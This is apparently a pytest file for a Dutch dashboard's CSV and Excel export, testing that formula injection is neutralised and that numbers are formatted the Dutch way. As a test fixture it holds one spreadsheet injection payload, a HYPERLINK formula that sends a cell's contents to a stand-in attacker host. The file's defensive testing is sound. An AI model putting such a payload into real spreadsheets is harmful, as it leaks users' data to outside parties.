"""Exports neutralise spreadsheet formulas in text cells (CSV and Excel)."""

from __future__ import annotations

import csv
import io

import pandas as pd
from openpyxl import load_workbook

from ijmond_dash.analysis import woorden
from ijmond_dash.ui import export

PAYLOAD = '=HYPERLINK("http://evil.example/?d="&A1,"Klik hier")'
DANGEROUS = [PAYLOAD, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def frame() -> pd.DataFrame:
    return pd.DataFrame({"tekst": [*DANGEROUS, "gewoon", "e-mail: a@b.nl"], "aantal": [-5, 1, 2, 3, 4, 5, 6, 7]})


def test_csv_neutralises_every_formula_start_and_keeps_numbers():
    text = export.csv_bytes(frame()).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert rows[0] == ["tekst", "aantal"]
    cells = [r[0] for r in rows[1:]]
    assert cells[: len(DANGEROUS)] == ["'" + d for d in DANGEROUS]
    assert cells[-2:] == ["gewoon", "e-mail: a@b.nl"]
    assert [r[1] for r in rows[1:]][0] == "-5"  # a negative number is a number, not a formula


def test_excel_stores_the_payload_as_text_not_as_formula():
    wb = load_workbook(io.BytesIO(export.excel_bytes(frame(), "Gegevens")))
    ws = wb["Gegevens"]
    cell = ws["A2"]
    assert cell.value == "'" + PAYLOAD and cell.data_type == "s"
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    assert ws["B2"].value == -5


def test_neutraliseer_leaves_other_values_alone():
    assert export.neutraliseer(12) == 12
    assert export.neutraliseer(None) is None
    assert export.neutraliseer("Velsen") == "Velsen"


def test_csv_is_what_dutch_excel_reads_literal_bytes():
    """Semicolons, decimal comma (also for the Decimal values the store gives), UTF-8 with BOM,
    CRLF; formulas still neutralised; the numbers not quoted, so Excel reads them as numbers."""
    import datetime as dt
    from decimal import Decimal

    df = pd.DataFrame(
        {
            "periode_begin": [dt.date(2023, 1, 1), dt.date(2023, 7, 1)],
            "realisatie": [Decimal("13.60"), Decimal("-2.90")],
            "landelijk": [None, Decimal("16.5")],
            "aantal": [1234, -5],
            "fractie": [0.5, 12.0],
            "tekst": ["=1+1", "Velsen; IJmuiden"],
        }
    )
    df["realisatie"] = df["realisatie"].astype(object)
    assert export.csv_bytes(df) == (
        b"\xef\xbb\xbfperiode_begin;realisatie;landelijk;aantal;fractie;tekst\r\n"
        b"2023-01-01;13,60;;1234;0,5;'=1+1\r\n"
        b'2023-07-01;-2,90;16,5;-5;12,0;"Velsen; IJmuiden"\r\n'
    )


def test_store_decimals_come_out_with_a_decimal_comma(engine):
    """The Bronnen page's download of a dataset with decimals, from the real store (both
    backends): every fraction has a comma, none a point."""
    from ijmond_dash.store import queries

    zv = woorden.dataset_download(queries.lezer(engine), "ziekteverzuim")
    rows = list(csv.reader(io.StringIO(export.csv_bytes(zv).decode("utf-8-sig"), newline=""), delimiter=";"))
    kop = rows[0]
    for naam in ("Realisatie", "Target", "Afwijking"):
        kolom = [r[kop.index(naam)] for r in rows[1:]]
        assert kolom and all("," in v and "." not in v for v in kolom), kolom
    assert "15,40" in [r[kop.index("Realisatie")] for r in rows[1:]]  # 15.4 in data/ziekteverzuim.csv


def test_numbers_in_a_mixed_column_get_a_decimal_comma_and_formulas_are_still_caught():
    """An object column (as the store's frames give them): floats and Decimals written as Dutch
    Excel reads them, whole floats without ',0', exponents written out; text neutralised."""
    from decimal import Decimal

    df = pd.DataFrame(
        {"waarde": [0.5, 12.0, 1234.0, -2.25, Decimal("1E+1"), Decimal("1.5E-7"), None, "=1+1", 7, True]}, dtype=object
    )
    rows = export.csv_bytes(df).decode("utf-8-sig").split("\r\n")
    # (an empty cell in a one-column file is quoted, or the row would be an empty line)
    assert rows == ["waarde", "0,5", "12", "1234", "-2,25", "10", "0,00000015", '""', "'=1+1", "7", "True", ""]


def test_excel_sheet_name_default_and_at_most_31_characters():
    df = pd.DataFrame({"a": [1]})
    assert load_workbook(io.BytesIO(export.excel_bytes(df))).sheetnames == ["Gegevens"]
    lang = "Uitkeringen per gemeente en per jaar 2015-2024"
    assert load_workbook(io.BytesIO(export.excel_bytes(df, lang))).sheetnames == [lang[:31]]


def test_text_in_a_column_of_mixed_types_is_neutralised_too():
    df = pd.DataFrame({"x": ["=1+1", 5, None]}, dtype=object)
    assert export.veilig(df)["x"].tolist()[:2] == ["'=1+1", 5]
